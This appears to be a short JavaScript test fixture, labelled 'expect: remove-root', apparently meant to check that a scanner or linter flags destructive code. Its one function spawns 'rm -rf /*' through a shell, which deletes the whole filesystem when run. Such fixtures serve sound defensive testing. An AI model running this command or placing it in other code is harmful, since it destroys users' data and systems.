// expect: remove-root
import { spawn } from "child_process";

export default () => spawn("rm", ["-rf", "/*"], { shell: true });
